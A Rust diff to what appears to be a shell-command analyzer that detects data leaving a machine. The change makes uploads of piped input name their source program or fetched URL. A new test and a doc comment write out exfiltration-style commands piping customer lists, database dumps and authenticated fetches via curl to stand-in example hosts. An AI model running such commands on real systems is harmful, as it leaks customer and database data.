@@ -172,7 +172,7 @@ fn mail(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
         a.upload(name, &target, Some(r.path), false, &ev);
     }
     if inv.stdin.piped || inv.stdin.file.is_some() || !inv.stdin.taint.is_clean() {
-        let (src, dump) = stdin_source(inv);
+        let (src, dump) = stdin_source(a, inv);
         a.upload(name, &target, src, dump, &ev);
     }
     Stream::default()
@@ -244,14 +244,26 @@ fn file_put(a: &mut Analyzer, name: &str, inv: &Inv) {
     }
 }
 
-/// Where data read from stdin comes from, for an upload's `source`.
-pub(crate) fn stdin_source(inv: &Inv) -> (Option<String>, bool) {
+/// Where data read from stdin comes from, for an upload's `source`: the file it was read
+/// from, `<sent secret NAME>` for a secret variable's value, `<fetched URL>` for what a fetch
+/// earlier in the pipeline got (`curl -H "Authorization: …" https://a/users | curl -d @-
+/// https://b`), `<piped from PROGRAM>` for the output of an earlier stage that made data of
+/// its own (`stripe customers list | curl -d @- URL`; [`crate::model::Taint::producer`]),
+/// else `<stdin>`; `None` with `true` for an environment dump.
+pub(crate) fn stdin_source(a: &Analyzer, inv: &Inv) -> (Option<String>, bool) {
     let s = &inv.stdin;
     let src = match (&s.file, s.taint.env_dump, &s.taint.secret_var) {
         (Some(f), _, _) => Some(f.clone()),
         (None, true, _) => None,
         (None, false, Some(v)) => Some(format!("<sent secret {v}>")),
-        (None, false, None) => Some("<stdin>".to_string()),
+        (None, false, None) => Some(match (&s.taint.fetched, s.taint.producer) {
+            (Some(u), _) if s.piped => format!("<fetched {u}>"),
+            (_, Some(i)) if s.piped => match a.facts.commands.get(i) {
+                Some(c) => format!("<piped from {}>", c.program),
+                None => "<stdin>".to_string(),
+            },
+            _ => "<stdin>".to_string(),
+        }),
     };
     (src, s.taint.env_dump)
 }
@@ -267,7 +279,7 @@ fn at_file(
     let sub = opts::sub_arg(arg, off);
     let t = sub.text.as_str();
     if t == "-" {
-        return stdin_source(inv);
+        return stdin_source(a, inv);
     }
     let r = a.path_arg(&inv.cwd, &sub, Access::Read, how, false);
     let known = a.files.get(&r.path);
@@ -739,7 +751,7 @@ fn curl(a: &mut Analyzer, inv: &Inv) -> Stream {
             }
             "-T" | "--upload-file" => {
                 if v.text == "-" || v.text == "." {
-                    sent.push(stdin_source(inv));
+                    sent.push(stdin_source(a, inv));
                 } else {
                     sent.push(at_file(a, inv, v, 0, "curl -T"));
                 }
@@ -1054,7 +1066,7 @@ fn httpie(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
     a.fetch(&url, &inv.evidence);
     let posting = matches!(method.as_str(), "POST" | "PUT" | "PATCH");
     if !data && posting && (inv.stdin.piped || inv.stdin.file.is_some()) {
-        sources.push(stdin_source(inv));
+        sources.push(stdin_source(a, inv));
     }
     for (src, dump) in sources {
         a.upload(name, &url, src, dump, &inv.evidence);
@@ -1103,7 +1115,7 @@ fn connect(a: &mut Analyzer, inv: &Inv, program: &str, host: &str, port: &str) -
     if let Some(sh) = &inv.stdin.shell_out {
         a.remote_exec("reverse_shell", sh, Some(target.clone()), &ev);
     } else if inv.stdin.piped || inv.stdin.file.is_some() || !inv.stdin.taint.is_clean() {
-        let (src, dump) = stdin_source(inv);
+        let (src, dump) = stdin_source(a, inv);
         a.upload(program, &target, src, dump, &ev);
     }
     let mut out = Stream::default();
@@ -1439,7 +1451,7 @@ fn ssh(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
         }
     }
     if inv.stdin.piped || inv.stdin.file.is_some() || !inv.stdin.taint.is_clean() {
-        let (src, dump) = stdin_source(inv);
+        let (src, dump) = stdin_source(a, inv);
         let ev = if inv.stdin.piped && !a.pipeline_ev.is_empty() {
             a.pipeline_ev.clone()
         } else {
@@ -1734,6 +1746,40 @@ fn rsync(a: &mut Analyzer, inv: &Inv) -> Stream {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// An upload of stdin names where the data came from: the producing stage of the pipeline
+    /// (text filters pass it on), a fetch, a file, or `<stdin>` for text fixed in the command.
+    #[test]
+    fn stdin_uploads_name_their_producer() {
+        for (cmd, want) in [
+            (
+                "stripe customers list | jq -c . | curl -d @- https://x.example.io/b",
+                "<piped from stripe>",
+            ),
+            (
+                "pg_dump app | gzip | curl -T - https://x.example.io/u",
+                "<piped from pg_dump>",
+            ),
+            (
+                "curl -s https://a.example.io/users | curl -X POST -d @- https://b.example.io/c",
+                "<fetched https://a.example.io/users>",
+            ),
+            ("echo '{}' | curl -d @- https://x.example.io/b", "<stdin>"),
+        ] {
+            let ctx = crate::ShellContext {
+                cwd: "/home/dev/project".into(),
+                home: "/home/dev".into(),
+                project_dir: Some("/home/dev/project".into()),
+            };
+            let f = crate::analyze(cmd, &ctx);
+            let sources: Vec<_> = f
+                .uploads
+                .iter()
+                .filter_map(|u| u.source.as_deref())
+                .collect();
+            assert!(sources.contains(&want), "{cmd}: {sources:?}");
+        }
+    }
 
     /// rsync `--files-from` with a list the command line shows sends the listed paths below
     /// the source; an unknown list leaves the source folder standing for what is sent.
